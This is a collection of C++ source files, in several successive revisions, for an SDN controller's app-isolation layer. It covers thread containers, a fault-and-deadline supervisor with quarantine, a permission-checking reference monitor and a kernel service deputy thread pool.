    BoundedMpmcQueue<std::function<void()>> queue;
    FaultHandler onFault;
    std::atomic<std::uint64_t> executed{0};
    std::atomic<std::uint64_t> faults{0};
    std::atomic<std::uint64_t> dropped{0};
    /// steady_clock nanos of the running task's start; 0 when idle.
    std::atomic<std::int64_t> taskStartNs{0};
    std::atomic<bool> quarantined{false};
    /// True when a VirtualExecutor (isolation/executor.h) owns this
    /// container's queue instead of a real worker thread. Decided at
    /// start() and never changes afterwards.
    bool virtualized = false;
    std::mutex exitMutex;
    std::condition_variable exitCv;
    bool exited = false;
  };

  static void runLoop(const std::shared_ptr<State>& state);
  /// One containment-wrapped task execution (identity already established
  /// by the caller) — shared between the real worker loop and the virtual
  /// scheduler's inline steps.
  static void runOneTask(State& state, std::function<void()>& task);
  /// Enqueues into the virtual scheduler, wrapped to run under the app's
  /// identity with full containment.
  static bool postVirtual(const std::shared_ptr<State>& state,
                          std::function<void()> task);

  std::shared_ptr<State> state_;
  std::thread thread_;
  bool started_ = false;
};

}  // namespace sdnshield::iso
