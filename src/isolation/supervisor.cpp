#include "isolation/supervisor.h"

#include <utility>

#include "isolation/thread_container.h"
#include "obs/metrics.h"

namespace sdnshield::iso {

namespace {

/// Registry-backed supervision telemetry (replaces the ad-hoc process-wide
/// counters the first supervision cut carried): per-app thresholds still
/// live in AppRecord under the supervisor lock, but every recorded fault,
/// drop, overrun and health transition is also visible to statsReport().
struct SupervisorMetrics {
  obs::Counter faults = obs::Registry::global().counter("supervisor.faults");
  obs::Counter eventDrops =
      obs::Registry::global().counter("supervisor.event_drops");
  obs::Counter overruns =
      obs::Registry::global().counter("supervisor.deadline_overruns");
  obs::Counter suspected =
      obs::Registry::global().counter("supervisor.transitions.suspected");
  obs::Counter quarantined =
      obs::Registry::global().counter("supervisor.transitions.quarantined");
};

const SupervisorMetrics& supervisorMetrics() {
  static const SupervisorMetrics metrics;
  return metrics;
}

}  // namespace

std::string toString(AppHealth health) {
  switch (health) {
    case AppHealth::kHealthy:
      return "healthy";
    case AppHealth::kSuspected:
      return "suspected";
    case AppHealth::kQuarantined:
      return "quarantined";
  }
  return "unknown";
}

Supervisor::Supervisor(SupervisorOptions options) : options_(options) {}

Supervisor::~Supervisor() { stop(); }

void Supervisor::setQuarantineHook(QuarantineHook hook) {
  std::lock_guard lock(mutex_);
  hook_ = std::move(hook);
}

void Supervisor::start() {
  {
    std::lock_guard lock(wakeMutex_);
    if (running_) return;
    running_ = true;
    stopRequested_ = false;
  }
  watchdog_ = std::thread([this] { heartbeat(); });
}

void Supervisor::stop() {
  {
    std::lock_guard lock(wakeMutex_);
    if (!running_) return;
    stopRequested_ = true;
  }
  wakeCv_.notify_all();
  if (watchdog_.joinable()) watchdog_.join();
  std::lock_guard lock(wakeMutex_);
  running_ = false;
}

void Supervisor::watch(of::AppId app,
                       std::shared_ptr<ThreadContainer> container) {
  std::lock_guard lock(mutex_);
  AppRecord& record = apps_[app];
  record.container = std::move(container);
}

void Supervisor::forget(of::AppId app) {
  std::lock_guard lock(mutex_);
  apps_.erase(app);
}

bool Supervisor::transitionLocked(AppRecord& record, AppHealth target) {
  if (record.health == AppHealth::kQuarantined) return false;  // Terminal.
  if (target == AppHealth::kQuarantined) {
    record.health = AppHealth::kQuarantined;
    ++quarantinedTotal_;
    supervisorMetrics().quarantined.increment();
    return true;
  }
  if (target == AppHealth::kSuspected &&
      record.health == AppHealth::kHealthy) {
    record.health = AppHealth::kSuspected;
    supervisorMetrics().suspected.increment();
  }
  return false;
}

void Supervisor::recordFault(of::AppId app, const std::string& what) {
  QuarantineHook hook;
  bool quarantine = false;
  {
    std::lock_guard lock(mutex_);
    auto it = apps_.find(app);
    if (it == apps_.end()) return;
    AppRecord& record = it->second;
    ++record.faults;
    supervisorMetrics().faults.increment();
    if (record.faults >= options_.faultQuarantineThreshold) {
      quarantine = transitionLocked(record, AppHealth::kQuarantined);
    } else if (record.faults >= options_.faultSuspectThreshold) {
      transitionLocked(record, AppHealth::kSuspected);
    }
    hook = hook_;
  }
  if (quarantine && hook) {
    hook(app, "fault threshold exceeded (last: " + what + ")");
  }
}

void Supervisor::recordEventDrop(of::AppId app) {
  QuarantineHook hook;
  bool quarantine = false;
  {
    std::lock_guard lock(mutex_);
    auto it = apps_.find(app);
    if (it == apps_.end()) return;
    AppRecord& record = it->second;
    ++record.drops;
    supervisorMetrics().eventDrops.increment();
    if (record.drops >= options_.dropQuarantineThreshold) {
      quarantine = transitionLocked(record, AppHealth::kQuarantined);
    } else {
      transitionLocked(record, AppHealth::kSuspected);
    }
    hook = hook_;
  }
  if (quarantine && hook) hook(app, "event queue overflow");
}

AppHealth Supervisor::health(of::AppId app) const {
  std::lock_guard lock(mutex_);
  auto it = apps_.find(app);
  return it == apps_.end() ? AppHealth::kHealthy : it->second.health;
}

std::uint64_t Supervisor::faultCount(of::AppId app) const {
  std::lock_guard lock(mutex_);
  auto it = apps_.find(app);
  return it == apps_.end() ? 0 : it->second.faults;
}

std::uint64_t Supervisor::dropCount(of::AppId app) const {
  std::lock_guard lock(mutex_);
  auto it = apps_.find(app);
  return it == apps_.end() ? 0 : it->second.drops;
}

std::uint64_t Supervisor::deadlineOverruns(of::AppId app) const {
  std::lock_guard lock(mutex_);
  auto it = apps_.find(app);
  return it == apps_.end() ? 0 : it->second.overruns;
}

std::uint64_t Supervisor::quarantinedTotal() const {
  std::lock_guard lock(mutex_);
  return quarantinedTotal_;
}

void Supervisor::heartbeat() {
  for (;;) {
    {
      std::unique_lock lock(wakeMutex_);
      if (wakeCv_.wait_for(lock, options_.heartbeatInterval,
                           [&] { return stopRequested_; })) {
        return;
      }
    }
    // Scan containers for task-deadline overruns. Decisions are taken under
    // the lock; hooks fire after it is released.
    struct Pending {
      of::AppId app;
      std::string reason;
    };
    std::vector<Pending> quarantines;
    QuarantineHook hook;
    {
      std::lock_guard lock(mutex_);
      hook = hook_;
      for (auto& [app, record] : apps_) {
        if (record.health == AppHealth::kQuarantined || !record.container) {
          continue;
        }
        auto running = record.container->currentTaskRuntime();
        if (running <= std::chrono::milliseconds::zero()) continue;
        if (running >= options_.taskHangDeadline) {
          ++record.overruns;
          supervisorMetrics().overruns.increment();
          if (transitionLocked(record, AppHealth::kQuarantined)) {
            auto ms = std::chrono::duration_cast<std::chrono::milliseconds>(
                          running)
                          .count();
            quarantines.push_back(
                {app, "task hung for " + std::to_string(ms) + "ms"});
          }
        } else if (running >= options_.taskDeadline) {
          ++record.overruns;
          supervisorMetrics().overruns.increment();
          transitionLocked(record, AppHealth::kSuspected);
        }
      }
    }
    for (Pending& pending : quarantines) {
      if (hook) hook(pending.app, pending.reason);
    }
  }
}

}  // namespace sdnshield::iso
