#include "isolation/thread_container.h"

#include <future>

#include "isolation/executor.h"
#include "isolation/fault_injector.h"
#include "obs/metrics.h"
#include "obs/trace.h"

namespace sdnshield::iso {

namespace {

thread_local of::AppId tlsAppId = of::kKernelAppId;

/// Container metrics, shared across all app containers (per-app numbers
/// stay on the container/supervisor; the registry carries the fleet view).
struct ContainerMetrics {
  obs::Histogram taskLatency =
      obs::Registry::global().histogram("container.task_ns");
  obs::Counter tasks = obs::Registry::global().counter("container.tasks");
  obs::Counter faults = obs::Registry::global().counter("container.faults");
  obs::Counter eventDrops =
      obs::Registry::global().counter("container.event_drops");
};

const ContainerMetrics& containerMetrics() {
  static const ContainerMetrics metrics;
  return metrics;
}

std::int64_t nowNs() {
  return std::chrono::duration_cast<std::chrono::nanoseconds>(
             ThreadContainer::Clock::now().time_since_epoch())
      .count();
}

}  // namespace

of::AppId currentAppId() { return tlsAppId; }

std::string describeException(std::exception_ptr error) {
  if (!error) return "no exception";
  try {
    std::rethrow_exception(error);
  } catch (const std::exception& e) {
    return e.what();
  } catch (...) {
    return "unknown exception";
  }
}

ScopedIdentity::ScopedIdentity(of::AppId app) : previous_(tlsAppId) {
  tlsAppId = app;
}

ScopedIdentity::~ScopedIdentity() { tlsAppId = previous_; }

std::thread spawnInheriting(std::function<void()> body) {
  of::AppId inherited = tlsAppId;
  return std::thread([inherited, body = std::move(body)] {
    ScopedIdentity identity(inherited);
    body();
  });
}

ThreadContainer::ThreadContainer(of::AppId app, std::string name,
                                 std::size_t queueCapacity)
    : state_(std::make_shared<State>(app, std::move(name), queueCapacity)) {}

ThreadContainer::~ThreadContainer() {
  stop();
  if (state_->virtualized) {
    if (VirtualExecutor* executor = virtualExecutor()) {
      executor->unregisterQueue(state_.get());
    }
  }
}

void ThreadContainer::setFaultHandler(FaultHandler handler) {
  state_->onFault = std::move(handler);
}

void ThreadContainer::start() {
  if (started_) return;
  started_ = true;
  if (VirtualExecutor* executor = virtualExecutor()) {
    // Model-checking mode: no worker thread. The queue lives inside the
    // virtual scheduler and every task becomes one explorable step.
    state_->virtualized = true;
    executor->registerQueue(state_.get(), "app:" + state_->name);
    return;
  }
  thread_ = std::thread([state = state_] { runLoop(state); });
}

void ThreadContainer::stop(std::chrono::milliseconds joinTimeout) {
  state_->queue.close();
  if (state_->virtualized) {
    // Join semantics without a thread: run whatever is still queued, in
    // order, on the caller (the worker would have drained it before
    // exiting).
    if (VirtualExecutor* executor = virtualExecutor()) {
      executor->drainQueue(state_.get());
    }
    return;
  }
  if (!thread_.joinable()) return;
  std::unique_lock lock(state_->exitMutex);
  bool exited = state_->exitCv.wait_for(lock, joinTimeout,
                                        [&] { return state_->exited; });
  lock.unlock();
  if (exited) {
    thread_.join();
  } else {
    // The worker is wedged inside an app task. Abandon it: the thread owns
    // the container state via shared_ptr, so this cannot dangle, and the
    // closed queue guarantees it exits if the task ever returns.
    state_->quarantined.store(true);
    thread_.detach();
  }
}

void ThreadContainer::quarantine() {
  state_->quarantined.store(true);
  state_->queue.closeAndDiscard();
  if (state_->virtualized) {
    // Pending virtual tasks are destroyed unrun — waiters observe broken
    // promises, exactly like the discarded real queue.
    if (VirtualExecutor* executor = virtualExecutor()) {
      executor->discardQueue(state_.get());
    }
  }
}

bool ThreadContainer::postVirtual(const std::shared_ptr<State>& state,
                                  std::function<void()> task) {
  VirtualExecutor* executor = virtualExecutor();
  if (!executor || state->queue.closed()) return false;
  return executor->enqueue(
      state.get(), [state, task = std::move(task)]() mutable {
        ScopedIdentity identity(state->app);
        runOneTask(*state, task);
      });
}

bool ThreadContainer::post(std::function<void()> task) {
  if (state_->virtualized) return postVirtual(state_, std::move(task));
  return state_->queue.push(std::move(task));
}

bool ThreadContainer::tryPost(std::function<void()> task) {
  if (FaultInjector::instance().injectQueueFull(sites::kContainerPost) ||
      !(state_->virtualized ? postVirtual(state_, std::move(task))
                            : state_->queue.tryPush(std::move(task)))) {
    state_->dropped.fetch_add(1, std::memory_order_relaxed);
    containerMetrics().eventDrops.increment();
    return false;
  }
  return true;
}

bool ThreadContainer::postAndWait(std::function<void()> task,
                                  std::chrono::milliseconds timeout) {
  auto done = std::make_shared<std::promise<void>>();
  std::future<void> future = done->get_future();
  bool posted = post([task = std::move(task), done] {
    try {
      task();
      done->set_value();
    } catch (...) {
      done->set_exception(std::current_exception());
    }
  });
  if (!posted) return false;  // Container stopped; nothing will run.
  // The queued wrapper must be the promise's only owner: if quarantine
  // discards it, destroying the promise is what wakes the wait below with
  // a broken_promise instead of letting it run out the full timeout.
  done.reset();
  if (state_->virtualized) {
    if (VirtualExecutor* executor = virtualExecutor()) {
      executor->await(
          [&future] {
            return future.wait_for(std::chrono::seconds(0)) ==
                   std::future_status::ready;
          },
          "container.join");
    }
    // await() is best effort during teardown; an unready future here takes
    // the same failure path a timed-out real wait would.
    if (future.wait_for(std::chrono::seconds(0)) !=
        std::future_status::ready) {
      return false;
    }
  } else if (future.wait_for(timeout) != std::future_status::ready) {
    return false;
  }
  try {
    future.get();  // Rethrows the task's exception to the waiter.
  } catch (const std::future_error&) {
    return false;  // Task discarded (quarantine) — broken promise.
  }
  return true;
}

ThreadContainer::Clock::duration ThreadContainer::currentTaskRuntime() const {
  std::int64_t start = state_->taskStartNs.load(std::memory_order_relaxed);
  if (start == 0) return {};
  return std::chrono::nanoseconds(nowNs() - start);
}

void ThreadContainer::runOneTask(State& state, std::function<void()>& task) {
  std::int64_t startNs = nowNs();
  state.taskStartNs.store(startNs, std::memory_order_relaxed);
  try {
    FaultInjector::instance().inject(sites::kContainerTask);
    task();
  } catch (...) {
    // Containment: an app fault must never escape the container thread
    // (it would std::terminate the whole controller).
    state.faults.fetch_add(1, std::memory_order_relaxed);
    containerMetrics().faults.increment();
    if (state.onFault) {
      std::exception_ptr error = std::current_exception();
      try {
        state.onFault(error, describeException(error));
      } catch (...) {
        // Fault handlers are trusted kernel code; swallow defensively.
      }
    }
  }
  state.taskStartNs.store(0, std::memory_order_relaxed);
  state.executed.fetch_add(1, std::memory_order_relaxed);
  // Task latency: metric + a span in the post-mortem trail (timestamps
  // reused from the watchdog bookkeeping — no extra clock read beyond
  // the one closing measurement).
  std::int64_t durationNs = nowNs() - startNs;
  containerMetrics().tasks.increment();
  containerMetrics().taskLatency.record(durationNs);
  obs::Tracer::global().record("container.task", startNs, durationNs);
}

void ThreadContainer::runLoop(const std::shared_ptr<State>& state) {
  ScopedIdentity identity(state->app);
  while (auto task = state->queue.pop()) {
    runOneTask(*state, *task);
  }
  {
    std::lock_guard lock(state->exitMutex);
    state->exited = true;
  }
  state->exitCv.notify_all();
}

}  // namespace sdnshield::iso
