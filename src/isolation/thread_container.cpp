#include "isolation/thread_container.h"

#include <future>

namespace sdnshield::iso {

namespace {
thread_local of::AppId tlsAppId = of::kKernelAppId;
}  // namespace

of::AppId currentAppId() { return tlsAppId; }

ScopedIdentity::ScopedIdentity(of::AppId app) : previous_(tlsAppId) {
  tlsAppId = app;
}

ScopedIdentity::~ScopedIdentity() { tlsAppId = previous_; }

std::thread spawnInheriting(std::function<void()> body) {
  of::AppId inherited = tlsAppId;
  return std::thread([inherited, body = std::move(body)] {
    ScopedIdentity identity(inherited);
    body();
  });
}

ThreadContainer::ThreadContainer(of::AppId app, std::string name)
    : app_(app), name_(std::move(name)) {}

ThreadContainer::~ThreadContainer() { stop(); }

void ThreadContainer::start() {
  if (started_) return;
  started_ = true;
  thread_ = std::thread([this] { run(); });
}

void ThreadContainer::stop() {
  queue_.close();
  if (thread_.joinable()) thread_.join();
}

bool ThreadContainer::post(std::function<void()> task) {
  return queue_.push(std::move(task));
}

void ThreadContainer::postAndWait(std::function<void()> task) {
  std::promise<void> done;
  std::future<void> future = done.get_future();
  bool posted = post([task = std::move(task), &done] {
    task();
    done.set_value();
  });
  if (!posted) return;  // Container stopped; nothing will run.
  future.wait();
}

void ThreadContainer::run() {
  ScopedIdentity identity(app_);
  while (auto task = queue_.pop()) {
    (*task)();
    executed_.fetch_add(1, std::memory_order_relaxed);
  }
}

}  // namespace sdnshield::iso
