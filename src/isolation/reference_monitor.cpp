#include "isolation/reference_monitor.h"

#include "isolation/thread_container.h"

namespace sdnshield::iso {

bool ReferenceMonitor::mediate(const perm::ApiCall& call) {
  if (engine_ == nullptr) return true;  // Baseline: unmediated.
  engine::Decision decision = engine_->check(call);
  if (audit_ != nullptr) audit_->record(call, decision.allowed, decision.reason);
  return decision.allowed;
}

bool ReferenceMonitor::netSend(of::Ipv4Address remoteIp,
                               std::uint16_t remotePort,
                               const std::string& data) {
  of::AppId app = currentAppId();
  if (!mediate(perm::ApiCall::hostNetwork(app, remoteIp, remotePort))) {
    return false;
  }
  host_.deliverNet(HostSystem::NetMessage{app, remoteIp, remotePort, data});
  return true;
}

bool ReferenceMonitor::fileWrite(const std::string& path,
                                 const std::string& data) {
  of::AppId app = currentAppId();
  if (!mediate(perm::ApiCall::fileSystem(app, path))) return false;
  host_.deliverFile(HostSystem::FileRecord{app, path, data});
  return true;
}

bool ReferenceMonitor::exec(const std::string& command) {
  of::AppId app = currentAppId();
  if (!mediate(perm::ApiCall::processRuntime(app, command))) return false;
  host_.deliverExec(HostSystem::ExecRecord{app, command});
  return true;
}

}  // namespace sdnshield::iso
