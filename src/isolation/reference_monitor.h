// Reference monitor for host system calls — the C++ analogue of the
// customised Java SecurityManager (paper §VI-A): every host operation an app
// performs is attributed to the calling thread's ambient identity and
// checked against the app's host_network / file_system / process_runtime
// permissions before it reaches the (simulated) host OS.
#pragma once

#include "controller/api.h"
#include "core/engine/audit.h"
#include "core/engine/permission_engine.h"
#include "isolation/host_system.h"

namespace sdnshield::iso {

class ReferenceMonitor final : public ctrl::HostServices {
 public:
  /// @p engine == nullptr yields an unmediated pass-through (the baseline
  /// monolithic deployment, where apps get the controller's full host
  /// privileges).
  ReferenceMonitor(HostSystem& host, const engine::PermissionEngine* engine,
                   engine::AuditLog* audit = nullptr)
      : host_(host), engine_(engine), audit_(audit) {}

  bool netSend(of::Ipv4Address remoteIp, std::uint16_t remotePort,
               const std::string& data) override;
  bool fileWrite(const std::string& path, const std::string& data) override;
  bool exec(const std::string& command) override;

 private:
  bool mediate(const perm::ApiCall& call);

  HostSystem& host_;
  const engine::PermissionEngine* engine_;
  engine::AuditLog* audit_;
};

}  // namespace sdnshield::iso
