#include "isolation/ksd.h"

#include "isolation/thread_container.h"

namespace sdnshield::iso {

void KsdPool::start() {
  if (started_) return;
  started_ = true;
  threads_.reserve(threadCount_);
  for (std::size_t i = 0; i < threadCount_; ++i) {
    threads_.emplace_back([this] { run(); });
  }
}

void KsdPool::stop() {
  queue_.close();
  for (std::thread& thread : threads_) {
    if (thread.joinable()) thread.join();
  }
  threads_.clear();
}

void KsdPool::run() {
  // Deputies are trusted kernel threads: full privilege.
  ScopedIdentity identity(of::kKernelAppId);
  while (auto work = queue_.pop()) {
    try {
      FaultInjector::instance().inject(sites::kKsdTask);
      (*work)();
    } catch (...) {
      // Contained: call() wraps its work in a promise, so only raw submit()
      // tasks and injected faults land here. A deputy must survive them —
      // it serves every app.
      faults_.fetch_add(1, std::memory_order_relaxed);
    }
    processed_.fetch_add(1, std::memory_order_relaxed);
  }
}

}  // namespace sdnshield::iso
