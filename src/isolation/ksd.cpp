#include "isolation/ksd.h"

#include "isolation/thread_container.h"

namespace sdnshield::iso {

void KsdPool::start() {
  if (started_) return;
  started_ = true;
  threads_.reserve(threadCount_);
  for (std::size_t i = 0; i < threadCount_; ++i) {
    threads_.emplace_back([this] { run(); });
  }
}

void KsdPool::stop() {
  queue_.close();
  for (std::thread& thread : threads_) {
    if (thread.joinable()) thread.join();
  }
  threads_.clear();
}

void KsdPool::run() {
  // Deputies are trusted kernel threads: full privilege.
  ScopedIdentity identity(of::kKernelAppId);
  while (auto work = queue_.pop()) {
    (*work)();
    processed_.fetch_add(1, std::memory_order_relaxed);
  }
}

}  // namespace sdnshield::iso
