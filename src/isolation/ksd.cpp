#include "isolation/ksd.h"

#include "isolation/thread_container.h"
#include "obs/metrics.h"

namespace sdnshield::iso {

namespace {

/// Deputy-pool metrics. All KsdPool instances share these names — the pool
/// is a process-level resource (one per runtime in production; tests that
/// build several simply aggregate).
struct KsdMetrics {
  obs::Gauge queueDepth = obs::Registry::global().gauge("ksd.queue_depth");
  obs::Histogram callLatency =
      obs::Registry::global().histogram("ksd.call_ns");
  obs::Counter calls = obs::Registry::global().counter("ksd.calls");
  obs::Counter deadlineMisses =
      obs::Registry::global().counter("ksd.deadline_miss");
  obs::Counter queueRejects =
      obs::Registry::global().counter("ksd.queue_reject");
  obs::Counter faults = obs::Registry::global().counter("ksd.fault");
  obs::Counter processed = obs::Registry::global().counter("ksd.processed");
};

const KsdMetrics& ksdMetrics() {
  static const KsdMetrics metrics;
  return metrics;
}

}  // namespace

void recordKsdQueueDelta(std::int64_t delta) {
  ksdMetrics().queueDepth.add(delta);
}

void recordKsdCall(std::int64_t latencyNs) {
  ksdMetrics().calls.increment();
  ksdMetrics().callLatency.record(latencyNs);
}

void recordKsdDeadlineMiss() { ksdMetrics().deadlineMisses.increment(); }

void recordKsdQueueReject() { ksdMetrics().queueRejects.increment(); }

void KsdPool::start() {
  if (started_) return;
  started_ = true;
  threads_.reserve(threadCount_);
  for (std::size_t i = 0; i < threadCount_; ++i) {
    threads_.emplace_back([this] { run(); });
  }
}

void KsdPool::stop() {
  queue_.close();
  for (std::thread& thread : threads_) {
    if (thread.joinable()) thread.join();
  }
  threads_.clear();
}

void KsdPool::run() {
  // Deputies are trusted kernel threads: full privilege.
  ScopedIdentity identity(of::kKernelAppId);
  while (auto work = queue_.pop()) {
    recordKsdQueueDelta(-1);
    OBS_SPAN("ksd.task");
    try {
      FaultInjector::instance().inject(sites::kKsdTask);
      (*work)();
    } catch (...) {
      // Contained: call() wraps its work in a promise, so only raw submit()
      // tasks and injected faults land here. A deputy must survive them —
      // it serves every app.
      faults_.fetch_add(1, std::memory_order_relaxed);
      ksdMetrics().faults.increment();
    }
    processed_.fetch_add(1, std::memory_order_relaxed);
    ksdMetrics().processed.increment();
  }
}

}  // namespace sdnshield::iso
