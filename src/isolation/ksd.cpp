#include "isolation/ksd.h"

#include "isolation/thread_container.h"
#include "obs/metrics.h"

namespace sdnshield::iso {

namespace {

/// Deputy-pool metrics. All KsdPool instances share these names — the pool
/// is a process-level resource (one per runtime in production; tests that
/// build several simply aggregate).
struct KsdMetrics {
  obs::Gauge queueDepth = obs::Registry::global().gauge("ksd.queue_depth");
  obs::Histogram callLatency =
      obs::Registry::global().histogram("ksd.call_ns");
  obs::Counter calls = obs::Registry::global().counter("ksd.calls");
  obs::Counter deadlineMisses =
      obs::Registry::global().counter("ksd.deadline_miss");
  obs::Counter queueRejects =
      obs::Registry::global().counter("ksd.queue_reject");
  obs::Counter faults = obs::Registry::global().counter("ksd.fault");
  obs::Counter processed = obs::Registry::global().counter("ksd.processed");
  obs::Histogram batchSize =
      obs::Registry::global().histogram("ksd.batch_size");
  obs::Gauge inFlight = obs::Registry::global().gauge("ksd.inflight");
};

const KsdMetrics& ksdMetrics() {
  static const KsdMetrics metrics;
  return metrics;
}

}  // namespace

void recordKsdQueueDelta(std::int64_t delta) {
  ksdMetrics().queueDepth.add(delta);
}

void recordKsdCall(std::int64_t latencyNs) {
  ksdMetrics().calls.increment();
  ksdMetrics().callLatency.record(latencyNs);
}

void recordKsdDeadlineMiss() { ksdMetrics().deadlineMisses.increment(); }

void recordKsdQueueReject() { ksdMetrics().queueRejects.increment(); }

void recordKsdBatch(std::size_t size) {
  ksdMetrics().batchSize.record(static_cast<std::int64_t>(size));
}

void recordKsdInFlightDelta(std::int64_t delta) {
  ksdMetrics().inFlight.add(delta);
}

void KsdPool::start() {
  if (started_) return;
  started_ = true;
  if (VirtualExecutor* executor = virtualExecutor()) {
    // Model-checking mode: no deputy threads. The channel lives in the
    // virtual scheduler; each queued request is one explorable step.
    virtualized_ = true;
    executor->registerQueue(this, "ksd");
    return;
  }
  threads_.reserve(threadCount_);
  for (std::size_t i = 0; i < threadCount_; ++i) {
    threads_.emplace_back([this] { run(); });
  }
}

void KsdPool::stop() {
  queue_.close();
  if (virtualized_) {
    if (VirtualExecutor* executor = virtualExecutor()) {
      executor->drainQueue(this);
      executor->unregisterQueue(this);
    }
    virtualized_ = false;
    return;
  }
  for (std::thread& thread : threads_) {
    if (thread.joinable()) thread.join();
  }
  threads_.clear();
}

bool KsdPool::submit(std::function<void()> work) {
  if (FaultInjector::instance().injectQueueFull(sites::kKsdQueue)) {
    recordKsdQueueReject();
    return false;
  }
  if (virtualized_) {
    if (queue_.closed()) return false;
    VirtualExecutor* executor = virtualExecutor();
    if (!executor) return false;
    return executor->enqueue(
        this, [this, work = std::move(work)]() mutable {
          runDeputyTask(work);
        });
  }
  if (!queue_.pushFor(std::move(work), callTimeout_)) {
    recordKsdQueueReject();
    return false;
  }
  recordKsdQueueDelta(1);
  return true;
}

void KsdPool::runDeputyTask(std::function<void()>& task) {
  // Deputies are trusted kernel threads: full privilege.
  ScopedIdentity identity(of::kKernelAppId);
  try {
    FaultInjector::instance().inject(sites::kKsdTask);
    task();
  } catch (...) {
    // Contained: call() wraps its work in a promise, so only raw
    // submit() tasks and injected faults land here. A deputy must
    // survive them — it serves every app.
    faults_.fetch_add(1, std::memory_order_relaxed);
    ksdMetrics().faults.increment();
  }
  processed_.fetch_add(1, std::memory_order_relaxed);
  ksdMetrics().processed.increment();
}

void KsdPool::invokeAll(std::vector<std::function<void()>> jobs) {
  if (jobs.empty()) return;
  struct BatchState {
    std::mutex mutex;
    std::condition_variable cv;
    std::size_t pending = 0;
    std::size_t completed = 0;
    std::exception_ptr firstError;
  };
  auto state = std::make_shared<BatchState>();
  state->pending = jobs.size();

  for (std::function<void()>& job : jobs) {
    // The guard's destructor is the barrier signal: it fires whether the
    // job ran, threw, or was destroyed unrun (injected deputy fault, queue
    // teardown) — the wait below can never hang on a dropped task.
    auto guard = std::shared_ptr<void>(nullptr, [state](void*) {
      std::lock_guard lock(state->mutex);
      if (--state->pending == 0) state->cv.notify_all();
    });
    auto wrapped = [state, guard = std::move(guard),
                    job = std::move(job)]() mutable {
      try {
        job();
        std::lock_guard lock(state->mutex);
        ++state->completed;
      } catch (...) {
        std::lock_guard lock(state->mutex);
        ++state->completed;
        if (!state->firstError) state->firstError = std::current_exception();
      }
    };
    if (!submit(wrapped)) wrapped();  // Saturated/stopped: run inline.
  }

  std::unique_lock lock(state->mutex);
  state->cv.wait(lock, [&] { return state->pending == 0; });
  if (state->firstError) std::rethrow_exception(state->firstError);
  if (state->completed != jobs.size()) {
    throw std::runtime_error("KSD batch job dropped before running");
  }
}

void KsdPool::run() {
  // Deputies are trusted kernel threads: full privilege.
  ScopedIdentity identity(of::kKernelAppId);
  std::vector<std::function<void()>> batch;
  batch.reserve(batchMax_);
  while (auto work = queue_.pop()) {
    // Batch draining: after the blocking pop, opportunistically pull up to
    // batchMax_ - 1 more queued requests so the whole burst is served under
    // one wakeup, one span and one queue-depth update. The app-side
    // permission context is resolved inside each task against the caller's
    // identity captured at submit time, so coalescing is safe.
    batch.clear();
    batch.push_back(std::move(*work));
    while (batch.size() < batchMax_) {
      auto more = queue_.tryPop();
      if (!more) break;
      batch.push_back(std::move(*more));
    }
    recordKsdQueueDelta(-static_cast<std::int64_t>(batch.size()));
    recordKsdBatch(batch.size());
    OBS_SPAN("ksd.batch");
    for (std::function<void()>& task : batch) {
      runDeputyTask(task);
      // Release the task eagerly: its shared promise / slot guards must not
      // outlive the batch loop while later tasks run.
      task = nullptr;
    }
  }
}

}  // namespace sdnshield::iso
