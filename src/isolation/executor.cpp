#include "isolation/executor.h"

namespace sdnshield::iso {

namespace {
std::atomic<VirtualExecutor*> gExecutor{nullptr};
}  // namespace

VirtualExecutor* virtualExecutor() {
  return gExecutor.load(std::memory_order_acquire);
}

void setVirtualExecutor(VirtualExecutor* executor) {
  gExecutor.store(executor, std::memory_order_release);
}

}  // namespace sdnshield::iso
