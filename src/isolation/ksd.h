// Kernel Service Deputy pool (paper §VI-A): privileged threads that receive
// app API requests over the inter-thread channel, permission-check them and
// execute them on the app's behalf. Multiple deputies run in parallel —
// "the choke points do not mean serialized points".
#pragma once

#include <atomic>
#include <cstdint>
#include <functional>
#include <future>
#include <stdexcept>
#include <thread>
#include <vector>

#include "isolation/channel.h"

namespace sdnshield::iso {

class KsdPool {
 public:
  explicit KsdPool(std::size_t threads = 2) : threadCount_(threads) {}
  ~KsdPool() { stop(); }

  KsdPool(const KsdPool&) = delete;
  KsdPool& operator=(const KsdPool&) = delete;

  void start();
  void stop();

  /// Enqueues work for a deputy. Returns false after stop().
  bool submit(std::function<void()> work) {
    return queue_.push(std::move(work));
  }

  /// Enqueues work and blocks the calling (app) thread for the result —
  /// the synchronous API-call shape apps see through the wrappers.
  template <typename R>
  R call(std::function<R()> work) {
    std::promise<R> promise;
    std::future<R> future = promise.get_future();
    bool posted = submit([work = std::move(work), &promise] {
      try {
        promise.set_value(work());
      } catch (...) {
        promise.set_exception(std::current_exception());
      }
    });
    if (!posted) throw std::runtime_error("KSD pool is stopped");
    return future.get();
  }

  std::size_t threadCount() const { return threadCount_; }
  std::uint64_t processedCount() const { return processed_.load(); }
  std::size_t queueDepth() const { return queue_.size(); }

 private:
  void run();

  std::size_t threadCount_;
  BoundedMpmcQueue<std::function<void()>> queue_{65536};
  std::vector<std::thread> threads_;
  std::atomic<std::uint64_t> processed_{0};
  bool started_ = false;
};

}  // namespace sdnshield::iso
