// Kernel Service Deputy pool (paper §VI-A): privileged threads that receive
// app API requests over the inter-thread channel, permission-check them and
// execute them on the app's behalf. Multiple deputies run in parallel —
// "the choke points do not mean serialized points".
//
// Availability: call() carries a deadline so a hung or saturated deputy can
// only stall the calling app for a bounded time (DeadlineExceeded), never
// forever. Results travel through a shared-ownership promise: an abandoned
// timed call leaves nothing dangling for the deputy to scribble on. Deputy
// task faults are contained and counted instead of terminating the process.
#pragma once

#include <atomic>
#include <chrono>
#include <cstdint>
#include <functional>
#include <future>
#include <memory>
#include <stdexcept>
#include <thread>
#include <vector>

#include "isolation/channel.h"
#include "isolation/fault_injector.h"
#include "obs/trace.h"

namespace sdnshield::iso {

/// Deputy-pool metric recorders (defined in ksd.cpp so the header-inline
/// hot paths stay free of registry plumbing). Registry metrics:
///   ksd.queue_depth (gauge), ksd.call_ns (histogram), ksd.calls,
///   ksd.deadline_miss, ksd.queue_reject, ksd.fault, ksd.processed.
void recordKsdQueueDelta(std::int64_t delta);
void recordKsdCall(std::int64_t latencyNs);
void recordKsdDeadlineMiss();
void recordKsdQueueReject();

/// Thrown to the calling app thread when a deputy misses the call deadline.
struct DeadlineExceeded : std::runtime_error {
  explicit DeadlineExceeded(const std::string& what)
      : std::runtime_error(what) {}
};

/// Thrown on calls issued after stop(): the runtime is gone, there is no
/// degraded mode to fall back to (distinct from transient saturation).
struct PoolStopped : std::runtime_error {
